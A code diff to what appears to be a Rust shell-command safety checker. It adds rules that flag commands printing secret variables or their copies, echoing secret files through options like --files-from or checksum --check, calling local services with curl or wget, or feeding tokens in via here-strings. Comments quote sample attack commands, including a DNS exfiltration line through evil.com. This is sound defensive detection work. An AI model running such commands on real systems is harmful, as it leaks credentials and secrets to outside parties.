@@ -16,6 +16,12 @@ const NETWORK_PROGRAMS: &[&str] = &[
 ];
 
 impl Engine<'_> {
+    /// A variable whose name looks secret, or one this line assigned from such a variable
+    /// (`x=$GITHUB_TOKEN; echo $x`, `for t in $TOKEN; do echo $t; done`).
+    pub(super) fn secret_variable(&self, name: &str) -> bool {
+        paths::secret_variable(name) || self.secret_copies.contains(name)
+    }
+
     /// Checks every program gets whatever its rule says: secrets read or printed, downloaded code.
     pub(super) fn argument_checks(&self, inv: &Invocation) -> Verdict {
         let mut verdict = Verdict::SAFE;
@@ -42,9 +48,16 @@ impl Engine<'_> {
                 }
             }
         }
+        if let Some((option, path)) = echoed_file_options(inv).into_iter().find(|(_, path)| paths::secret(path)) {
+            verdict = verdict.max(Verdict::high(format!(
+                "reads a secret ({path}) through {option}; its lines come back in the output or the error messages"
+            )));
+        }
         for var in inv.args.iter().flat_map(|w| w.vars.iter()) {
-            if paths::secret_variable(var) {
+            if self.secret_variable(var) {
                 let printing = PRINTERS.contains(&inv.name);
+                let copy = if paths::secret_variable(var) { "" } else { ", a copy of a secret variable" };
+                let var = format!("{var}{copy}");
                 verdict = verdict.max(if printing {
                     Verdict::high(format!("prints the secret variable ${var}"))
                 } else {
@@ -87,6 +100,25 @@ impl Engine<'_> {
                 Verdict::medium(format!("names the cloud metadata address {address}"))
             });
         }
+        if is_http_client(inv.name) {
+            for word in inv.args {
+                if let Some(scheme) = paths::local::other_scheme(&word.text) {
+                    verdict = verdict.max(Verdict::medium(format!(
+                        "uses the {scheme}:// scheme; only http and https requests are known to be read-only"
+                    )));
+                }
+                // `--resolve example.com:443:127.0.0.1` and `--connect-to` send the request here too.
+                let bare = !word.text.starts_with('-');
+                let parts = word.text.split(':').filter(|_| bare && word.text.matches(':').count() >= 2);
+                let local = paths::local::local_host_in(&word.text, bare)
+                    .or_else(|| parts.filter_map(|p| paths::local::local_host_in(p, true)).next());
+                if let Some(host) = local.filter(|_| !paths::local::is_probe(&word.text)) {
+                    verdict = verdict.max(Verdict::medium(format!(
+                        "requests a service on this machine ({host}) beyond a health or metrics probe; local services often trust local callers"
+                    )));
+                }
+            }
+        }
         // `dig $(cat secrets).evil.com`: a network address built at run time can carry data out.
         let network = NETWORK_PROGRAMS.contains(&inv.name);
         if let Some(word) = inv.args.iter().find(|w| w.dynamic && (network || w.text.contains("://"))) {
@@ -104,6 +136,14 @@ impl Engine<'_> {
             for sub in &word.subs {
                 self.script(sub, nesting);
             }
+        }
+        // `cat <<<"$TOKEN"`, a here-document naming `$AWS_SECRET_ACCESS_KEY`: the value is the input.
+        let fed = redirect.heredoc.iter().chain(redirect.target.iter().filter(|_| redirect.op == "<<<"));
+        if let Some(var) = fed.flat_map(|w| w.vars.iter()).find(|v| self.secret_variable(v)) {
+            self.add(
+                subject,
+                &Verdict::high(format!("feeds the secret variable ${var} to the command's input, which can print it")),
+            );
         }
         let Some(target) = redirect.target.as_ref() else {
             return;
@@ -150,6 +190,54 @@ impl Engine<'_> {
 }
 
 /// Network clients: a metadata address among their arguments is a request to it.
+/// Options whose value is a file the program reads line by line and echoes back (as names in
+/// its error messages, as data), also for programs that otherwise show only metadata.
+const ECHOED_FILE_LONG: &[&str] = &[
+    "--files0-from", "-files0-from", "--files-from", "--from-file", "--to-file", "--exclude-from", "--file",
+    "--rawfile", "--slurpfile", "--arg-file", "--magic-file", "--include-from", "--patterns-from",
+];
+/// The same, as short options of one program.
+const ECHOED_FILE_SHORT: &[(&str, &[&str])] =
+    &[("file", &["-f", "-m"]), ("du", &["-X"]), ("xargs", &["-a"]), ("grep", &["-f"]), ("tar", &["-T", "-X"])];
+/// Checksum tools read the operand of `-c`/`--check` as a list of names and echo them.
+const CHECKSUM_TOOLS: &[&str] =
+    &["md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "b2sum", "cksum", "shasum"];
+
+fn echoed_file_options<'t>(inv: &Invocation<'t>) -> Vec<(String, &'t str)> {
+    let shorts = ECHOED_FILE_SHORT.iter().find(|(name, _)| *name == inv.name).map_or(&[][..], |(_, s)| *s);
+    if CHECKSUM_TOOLS.contains(&inv.name)
+        && inv.texts().any(|t| t == "--check" || t.starts_with('-') && !t.starts_with("--") && t.contains('c'))
+    {
+        return inv.positionals().iter().map(|w| ("--check".to_owned(), w.text.as_str())).collect();
+    }
+    let texts: Vec<&str> = inv.texts().collect();
+    texts
+        .iter()
+        .enumerate()
+        .filter_map(|(i, text)| {
+            let next = texts.get(i + 1).copied();
+            if let Some((key, value)) = text.split_once('=')
+                && ECHOED_FILE_LONG.contains(&key)
+            {
+                return Some((key.to_owned(), value));
+            }
+            if ECHOED_FILE_LONG.contains(text) || shorts.contains(text) {
+                return next.map(|value| ((*text).to_owned(), value));
+            }
+            let attached = shorts.iter().find_map(|s| text.strip_prefix(s).filter(|v| !v.is_empty()));
+            attached.map(|value| (text.get(..2).unwrap_or(text).to_owned(), value))
+        })
+        .collect()
+}
+
+/// Clients that fetch URLs (their bare words are hosts).
+fn is_http_client(name: &str) -> bool {
+    matches!(
+        name,
+        "curl" | "wget" | "http" | "https" | "xh" | "curlie" | "aria2c" | "lynx" | "w3m" | "links" | "fetch" | "wget2"
+    )
+}
+
 fn is_network_client(name: &str) -> bool {
     NETWORK_PROGRAMS.contains(&name)
         || matches!(
